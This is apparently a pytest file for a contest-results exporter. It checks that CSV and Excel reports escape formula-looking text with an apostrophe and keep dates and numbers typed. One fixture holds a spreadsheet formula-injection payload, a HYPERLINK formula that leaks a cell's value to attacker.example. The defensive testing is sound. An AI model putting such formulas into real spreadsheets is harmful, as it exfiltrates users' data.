"""results.csv and results.xlsx as Excel and LibreOffice read them: a byte-order mark, years
and dates as numbers and dates, an unknown year apart, and no formula from a result's text."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from contestflow.db import session_scope
from contestflow.db.models import Result
from contestflow.identity import history_file
from contestflow.results.csvfile import FORMULA_STARTS, protect, unprotect
from contestflow.results.history import import_history, import_history_file
from contestflow.results.report import write_report
from tests.results.helpers import csv_bytes

NOTE = '=HYPERLINK("http://attacker.example/?leak="&A1,"Диплом")'
NOMINATION = "@SUM(1+1)"
PHONE = "+7 8652 00-00-00"  # a plain note that starts like a formula
TAB_NOTE = "\tотступ"
ANNOUNCED = dt.date(2022, 11, 3)


def _ledger_with_formula_looking_text() -> None:
    with session_scope() as session:
        assert import_history_file(session, history_file()).ok
        rows = [f'2022,ero-uclg-rating,2022,"{NOMINATION}",international,prize,'
                f'"{NOTE.replace(chr(34), chr(34) * 2)}"',
                f'2021,ero-uclg-rating,2021,-минус,international,prize,"{PHONE}"',
                '2019,ero-uclg-rating,2019,,international,prize,']
        report = import_history(session, csv_bytes(*rows), source="extra.csv")
        assert report.ok, report
        result = session.scalar(select(Result).where(Result.edition_key == "2022"))
        assert result is not None and result.notes == NOTE
        result.announced_on, result.prize_amount, result.prize_currency = (
            ANNOUNCED, Decimal("1500.50"), "USD")
        tabbed = session.scalar(select(Result).where(Result.edition_key == "2019",
                                                     Result.contest_id == "ero-uclg-rating"))
        assert tabbed is not None
        tabbed.notes = TAB_NOTE  # the import strips a note; the web form's text may not


def test_the_apostrophe_goes_on_and_comes_off() -> None:
    for text in ("=1+1", "+7", "-5", "@x", "\tx", "\rx"):
        assert protect(text) == "'" + text and unprotect(protect(text)) == text
    for text in ("", "Диплом", "'quoted", "1-2", " =x"):
        assert protect(text) == text and unprotect(text) == text
    assert len(FORMULA_STARTS) == 6


def test_the_csv_has_a_bom_and_no_live_formula(database_url: str, tmp_path: Path) -> None:
    _ledger_with_formula_looking_text()
    with session_scope() as session:
        files = write_report(session, tmp_path / "report", lang="en")
    data = files.csv.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfyear,contest,")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert all(not cell.startswith(FORMULA_STARTS) for row in rows for cell in row)
    by_edition = {row[2]: row for row in rows[1:] if row[1] == "ero-uclg-rating"}
    assert by_edition["2022"][3] == "'" + NOMINATION and by_edition["2022"][6] == "'" + NOTE
    assert by_edition["2021"][3] == "'-минус" and by_edition["2021"][6] == "'" + PHONE
    assert by_edition["2019"][6] == "'" + TAB_NOTE
    # Our own CSV re-imports to the very same text.
    with session_scope(f"sqlite:///{tmp_path / 'other.db'}") as session:
        assert import_history(session, data).ok
        notes = {r.edition_key: (r.nomination, r.notes) for r in session.scalars(
            select(Result).where(Result.contest_id == "ero-uclg-rating"))}
    assert notes["2022"] == (NOMINATION, NOTE) and notes["2021"] == ("-минус", PHONE)


def test_the_workbook_has_numbers_dates_and_text_never_formulas(database_url: str,
                                                               tmp_path: Path) -> None:
    _ledger_with_formula_looking_text()
    with session_scope() as session:
        files = write_report(session, tmp_path / "report")
    with zipfile.ZipFile(files.xlsx) as package:
        sheets = [package.read(n) for n in package.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any(re.search(rb"<f[ >]", xml) for xml in sheets)  # no formula at all

    workbook = load_workbook(files.xlsx)
    ledger = workbook["Реестр результатов"]
    header = [cell.value for cell in ledger[1]]
    year, notes = header.index("Год"), header.index("Примечания")
    announced, prize = header.index("Дата объявления"), header.index("Сумма премии")
    rows = list(ledger.iter_rows(min_row=2))
    assert {type(row[year].value) for row in rows} == {int, type(None)}
    [row] = [r for r in rows if r[notes].value == NOTE]
    assert row[notes].data_type == "s" and row[notes].quotePrefix
    nomination = row[header.index("Номинация")]
    assert nomination.value == NOMINATION and nomination.quotePrefix
    assert row[year].value == 2022
    assert row[announced].is_date and row[announced].value.date() == ANNOUNCED
    assert row[announced].number_format == "DD.MM.YYYY"
    assert row[prize].value == pytest.approx(1500.5) and row[prize].data_type == "n"
    plain = next(r for r in rows if r[notes].value and r[notes].value.startswith("At least"))
    assert not plain[notes].quotePrefix

    # By year: numbers in order, then an empty row, then the unknown year and the total.
    values = [row[0] for row in workbook["По годам"].iter_rows(min_row=2, values_only=True)]
    gap = values.index(None)
    years = values[:gap]
    assert all(isinstance(y, int) for y in years) and years == sorted(years) and 2022 in years
    assert values[gap + 1:] == ["год не указан", "Итого"]
